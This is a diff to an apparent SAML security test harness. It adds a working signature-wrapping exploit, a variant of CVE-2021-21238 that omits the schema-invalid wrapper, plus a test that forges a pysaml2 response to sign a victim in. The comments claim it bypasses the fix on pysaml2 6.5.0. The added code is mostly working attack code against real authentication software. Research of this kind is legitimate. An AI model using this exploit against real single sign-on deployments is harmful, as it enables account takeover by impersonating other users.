@@ -213,6 +213,20 @@ def exploit_cve_2020_5390(signed: etree._Element) -> tuple[etree._Element, etree
     return forged, genuine
 
 
+def exploit_two_signatures_bare(signed: etree._Element) -> tuple[etree._Element, etree._Element]:
+    """CVE-2021-21238's shape without the schema-invalid wrapper: the forged Assertion carries two
+    ds:Signature children, the genuine one (Reference -> the genuine Assertion, parked in
+    samlp:Extensions) FIRST and a copy retargeted to the forged ID SECOND. xmlsec1 verifies the first
+    Signature under --node-id; pysaml2 keeps the last Signature child for its enveloped check and its
+    schema check of the re-serialised object sees one Signature. Measured because the lab's SIG-17
+    variant with this shape signs the victim in on pysaml2 6.5.0 (the fix of 21238 validates the
+    schema, which this shape satisfies after pysaml2's own parse)."""
+    forged, genuine = exploit_cve_2021_21238(signed)
+    wrapper = forged[1]
+    forged.replace(wrapper, wrapper[0])
+    return forged, genuine
+
+
 def exploit_cve_2021_21238(signed: etree._Element) -> tuple[etree._Element, etree._Element]:
     """pysaml2 <= 6.4.1 did not validate the document against the schema, and "xmlsec1 will not
     validate every signature in the given document, but only the first it finds in the given scope"
@@ -671,6 +685,22 @@ def run(name: str, port: int) -> tuple[dict[str, str], list[str]]:
                 else:
                     fact(cve.lower(), f"the published exploit does not sign the victim in: refused, or only the genuinely signed "
                               f"identity (shape: {shape})", ident != VICTIM)
+            # 5. pysaml2 >= 6.4.1: the same shape without the wrapper (beyond the advisory)
+            if name in ("pysaml2-6.4.1", "pysaml2-6.5.0"):
+                c, irt = fresh()
+                a = build_assertion(ATTACKER, entity, acs, irt)
+                sign_assertion(a, key_pem, cert_pem)
+                forged, genuine = exploit_two_signatures_bare(a)
+                resp = build_response(acs, irt, forged)
+                ext = etree.Element(f"{{{NS['samlp']}}}Extensions")
+                ext.append(genuine)
+                resp.insert(1, ext)
+                st, ident, cookie = twin.post(c, acs, resp)
+                out.append(f"two Signatures, no wrapper (the genuine one first, Reference -> the genuine Assertion in "
+                           f"samlp:Extensions; a copy retargeted to the forged ID second): ACS HTTP {st}, whoami -> {ident}")
+                fact("signs-in-victim-two-signatures-bare", "the forged Assertion (victim) with two ds:Signature children, "
+                     "the genuine one first and a retargeted copy second (CVE-2021-21238's shape without the wrapper), "
+                     f"signs the victim {VICTIM} in", ident == VICTIM)
         finally:
             twin.stop()
         seconds = time.monotonic() - t0
